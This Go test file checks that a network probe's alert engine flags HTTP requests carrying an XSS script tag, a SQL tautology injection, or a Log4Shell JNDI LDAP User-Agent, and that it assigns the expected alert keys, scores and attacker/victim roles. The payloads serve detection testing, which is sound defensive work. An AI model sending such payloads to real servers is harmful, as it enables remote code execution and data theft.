package checks

import (
	"fmt"
	"net/netip"
	"testing"

	"github.com/probe-appliance/probe/controlplane/alert"
	"github.com/probe-appliance/probe/controlplane/flowtable"
	"github.com/probe-appliance/probe/controlplane/store"
	"github.com/probe-appliance/probe/dataplane/decode"
)

// TestURLInjectionAlerts: an HTTP request whose query carries an attack
// raises ntopng's Possible XSS or Possible SQL Injection (nDPI risks 1 and
// 2, Severe: 250), client the attacker and server the victim. With a
// Log4Shell User-Agent besides, Possible XSS leads Possible Exploit (250
// each, the lower alert key) and the score adds all three.
func TestURLInjectionAlerts(t *testing.T) {
	srv := netip.MustParseAddr("198.51.100.80")
	for i, c := range []struct {
		target, ua string
		keys       []int // lead first
		score      int
	}{
		{"/s?q=<script>alert(1)</script>", "Mozilla/5.0", []int{alert.FlowURLPossibleXSS}, 250},
		{"/i?id=1'+OR+'1'='1", "Mozilla/5.0", []int{alert.FlowURLPossibleSQLi}, 250},
		{"/s?q=<script>alert(1)</script>", "${jndi:ldap://x/a}",
			[]int{alert.FlowURLPossibleXSS, alert.FlowHTTPSuspiciousUA, alert.FlowPossibleExploit}, 600},
		{"/s?flag&q=<script>alert(1)</script>", "Mozilla/5.0", nil, 0},
	} {
		st, err := store.Open("", store.Options{InMemory: true})
		if err != nil {
			t.Fatal(err)
		}
		var s sink
		e := newEngine(t, st, &s)
		tb := flowtable.New(flowtable.Config{LocalNets: []netip.Prefix{lan}, Offline: true})
		req := tcp(t0+1e6, victim, srv, 40200, 80, decode.TCPAck|decode.TCPPsh)
		req.Payload = []byte("GET " + c.target + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + c.ua + "\r\n\r\n")
		resp := tcp(t0+2e6, srv, victim, 80, 40200, decode.TCPAck|decode.TCPPsh)
		resp.Payload = []byte("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 6\r\n\r\n<html>")
		for _, p := range []*decode.Packet{
			tcp(t0, victim, srv, 40200, 80, decode.TCPSyn),
			tcp(t0+5e5, srv, victim, 80, 40200, decode.TCPSyn|decode.TCPAck), req, resp,
		} {
			p.TCPWindow = 65535
			tb.HandlePacket(p, decode.ErrNone)
		}
		e.Run(Iface{Table: tb}, 0, true)
		got := storedAlerts(e)
		st.Close()
		if c.keys == nil {
			if len(got) != 0 {
				t.Errorf("case %d: alerts %+v, want none", i, got)
			}
			continue
		}
		if len(got) != 1 || got[0].Flow == nil {
			t.Errorf("case %d: alerts %+v, want one flow alert", i, got)
			continue
		}
		a := got[0]
		if keys := append([]int{a.TypeID}, a.Flow.Others...); fmt.Sprint(keys) != fmt.Sprint(c.keys) {
			t.Errorf("case %d: alert keys %v, want %v", i, keys, c.keys)
		}
		if a.Score != c.score {
			t.Errorf("case %d: score %d, want %d", i, a.Score, c.score)
		}
		if !a.Flow.CliAttacker || !a.Flow.SrvVictim {
			t.Errorf("case %d: client attacker %v, server victim %v, want both", i, a.Flow.CliAttacker, a.Flow.SrvVictim)
		}
		if m := alert.MetaOf(alert.TypeID{Family: alert.FamilyFlow, ID: a.TypeID}); a.Severity != alert.SeverityForScore(m.Score) {
			t.Errorf("case %d: severity %v for a lead scoring %d", i, a.Severity, m.Score)
		}
	}
}
